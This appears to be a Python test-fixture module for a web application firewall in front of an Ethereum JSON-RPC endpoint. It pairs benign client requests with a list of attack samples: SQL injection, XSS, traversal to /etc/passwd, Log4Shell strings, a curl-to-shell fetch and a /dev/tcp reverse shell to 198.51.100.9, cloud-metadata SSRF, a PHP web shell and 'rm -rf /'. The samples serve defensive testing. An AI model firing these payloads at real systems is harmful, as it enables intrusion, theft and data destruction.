"""Requests for the WAF's content tests: benign JSON-RPC traffic as real clients send it, and attacks, as data."""

from __future__ import annotations

import json
from dataclasses import dataclass, field

from edgeplane.rules import RequestFields

WEB3_PY = b"Web3.py/7.6.0/web3.providers.rpc.rpc.HTTPProvider"
ETHERS = b"ethers/6.13.4"
BROWSER = b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
ADDRESS = "0xd8da6bf26964af9d7eed9e03e53415d37aa96045"
TOPIC = "0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef"


@dataclass(frozen=True)
class Sample:
    """One request: what a client sends to ``POST /v1/mainnet``."""

    name: str
    body: bytes = b'{"jsonrpc":"2.0","id":1,"method":"eth_blockNumber","params":[]}'
    query: str = ""
    raw_path: str = "/v1/mainnet"
    user_agent: bytes = WEB3_PY
    headers: tuple[tuple[bytes, bytes], ...] = field(default=())
    method: str = "POST"

    def fields(self) -> RequestFields:
        """The request as the firewall sees it."""
        headers = [
            (b"host", b"rpc.example.com"),
            (b"user-agent", self.user_agent),
            (b"content-type", b"application/json"),
            (b"accept", b"*/*"),
            (b"accept-encoding", b"gzip, deflate"),
            (b"content-length", str(len(self.body)).encode()),
            *self.headers,
        ]
        return RequestFields.from_http(
            method=self.method,
            scheme="https",
            host="rpc.example.com",
            raw_path=self.raw_path,
            query=self.query,
            headers=headers,
            body=self.body,
            client_ip="203.0.113.7",
            client_port=50123,
            server_port=443,
        )


def rpc(method: str, params: object, request_id: object = 1) -> bytes:
    """A JSON-RPC request body as clients encode it."""
    return json.dumps({"jsonrpc": "2.0", "method": method, "params": params, "id": request_id}).encode()


BENIGN: tuple[Sample, ...] = (
    Sample("eth_blockNumber"),
    Sample("eth_chainId ethers", rpc("eth_chainId", []), user_agent=ETHERS),
    Sample("eth_getBalance", rpc("eth_getBalance", [ADDRESS, "latest"])),
    Sample(
        "eth_call balanceOf",
        rpc(
            "eth_call",
            [
                {"to": "0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48", "data": "0x70a08231" + "0" * 24 + ADDRESS[2:]},
                "latest",
            ],
        ),
    ),
    Sample(
        "eth_getLogs",
        rpc(
            "eth_getLogs",
            [{"fromBlock": "0x1312d00", "toBlock": "0x1312d64", "address": ADDRESS, "topics": [TOPIC, None]}],
        ),
    ),
    Sample(
        "batch",
        json.dumps([json.loads(rpc("eth_chainId", [], 1)), json.loads(rpc("eth_gasPrice", [], 2))]).encode(),
        user_agent=ETHERS,
    ),
    Sample(
        "eth_sendRawTransaction",
        rpc(
            "eth_sendRawTransaction",
            ["0x02f8b20181c9843b9aca0085174876e80083030d4094" + "ab" * 20 + "80b844a9059cbb" + "00" * 60],
        ),
    ),
    Sample("eth_getTransactionReceipt", rpc("eth_getTransactionReceipt", ["0x" + "5c" * 32])),
    Sample("eth_feeHistory", rpc("eth_feeHistory", ["0x4", "latest", [25, 75]])),
    Sample(
        "eth_estimateGas",
        rpc("eth_estimateGas", [{"from": ADDRESS, "to": "0x" + "11" * 20, "value": "0xde0b6b3a7640000", "data": "0x"}]),
    ),
    Sample(
        "trace_filter",
        rpc(
            "trace_filter",
            [{"fromBlock": "0x10", "toBlock": "latest", "fromAddress": [ADDRESS], "after": 0, "count": 10}],
        ),
    ),
    Sample(
        "net_version browser",
        rpc("net_version", [], "a1b2"),
        user_agent=BROWSER,
        headers=((b"origin", b"https://app.uniswap.org"), (b"referer", b"https://app.uniswap.org/swap?chain=mainnet")),
    ),
    Sample("web3_clientVersion with an api key", rpc("web3_clientVersion", []), query="apikey=3f9c2a7be1d04c3b"),
    Sample("eth_getBlockByNumber", rpc("eth_getBlockByNumber", ["0x1312d00", False])),
    Sample("eth_getStorageAt", rpc("eth_getStorageAt", [ADDRESS, "0x0", "pending"])),
    Sample("eth_getCode with a block hash", rpc("eth_getCode", [ADDRESS, {"blockHash": "0x" + "9f" * 32}])),
)


@dataclass(frozen=True)
class Attack:
    """An attack request and whether the Core Ruleset alone at PL1 is expected to see it."""

    sample: Sample
    core: bool = True


def _params(method: str, payload: str) -> bytes:
    return rpc(method, [payload, "latest"])


ATTACKS: tuple[Attack, ...] = (
    Attack(Sample("sqli union in the query", query="id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--")),
    Attack(Sample("sqli tautology in params", _params("eth_getBalance", "' OR '1'='1"))),
    Attack(Sample("sqli time-based in params", _params("eth_call", "1 AND SLEEP(5)"))),
    Attack(Sample("sqli stacked in params", _params("eth_getCode", "1; DROP TABLE users"))),
    Attack(
        Sample("sqli schema probe in the query", query="q=1+and+1=(select+count(*)+from+information_schema.tables)")
    ),
    Attack(Sample("xss script in params", _params("eth_call", "<script>alert(document.cookie)</script>"))),
    Attack(Sample("xss handler in the query", query="name=%3Cimg%20src=x%20onerror=alert(1)%3E")),
    Attack(Sample("traversal in params", _params("eth_getCode", "../../../../etc/passwd"))),
    Attack(Sample("traversal in the query", query="file=..%2f..%2f..%2fetc%2fshadow")),
    Attack(Sample("log4j in the user agent", user_agent=b"${jndi:ldap://198.51.100.9:1389/a}")),
    Attack(Sample("log4j obfuscated in params", _params("eth_call", "${${lower:j}ndi:${lower:l}dap://x.example/a}"))),
    Attack(Sample("log4j in the referer", headers=((b"referer", b"${jndi:dns://x.example/}"),))),
    Attack(Sample("log4j in any header", headers=((b"x-api-version", b"${jndi:ldap://x.example/a}"),)), core=False),
    Attack(
        Sample(
            "log4j JSON-escaped in params",
            b'{"jsonrpc":"2.0","id":1,"method":"eth_call","params":["\\u0024\\u007bjndi:ldap://x/a}"]}',
        ),
        core=False,
    ),
    Attack(Sample("command injection in params", _params("eth_call", "0x1; cat /etc/passwd"))),
    Attack(Sample("command substitution in the query", query="host=$(curl%20http://198.51.100.9/x.sh%20|%20sh)")),
    Attack(Sample("reverse shell in params", _params("eth_call", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"))),
    Attack(Sample("ssrf metadata in params", _params("eth_call", "http://169.254.169.254/latest/meta-data/iam/"))),
    Attack(Sample("scanner sqlmap", user_agent=b"sqlmap/1.7.2#stable (https://sqlmap.org)")),
    Attack(
        Sample(
            "scanner nuclei",
            user_agent=b"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
        )
    ),
    Attack(Sample("shellshock in the user agent", user_agent=b"() { :; }; /bin/bash -c 'id'")),
    Attack(
        Sample(
            "prototype pollution",
            b'{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[{"__proto__":{"admin":true}}]}',
        )
    ),
    Attack(
        Sample("method name injection", b'{"jsonrpc":"2.0","id":1,"method":"eth_call;rm -rf /","params":[]}'),
        core=False,
    ),
    Attack(Sample("php in params", _params("eth_call", "<?php system($_GET['c']); ?>"))),
    Attack(Sample("template injection in the query", query="name={{7*7}}")),
    Attack(
        Sample(
            "java class loader in the query",
            query="class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        )
    ),
)
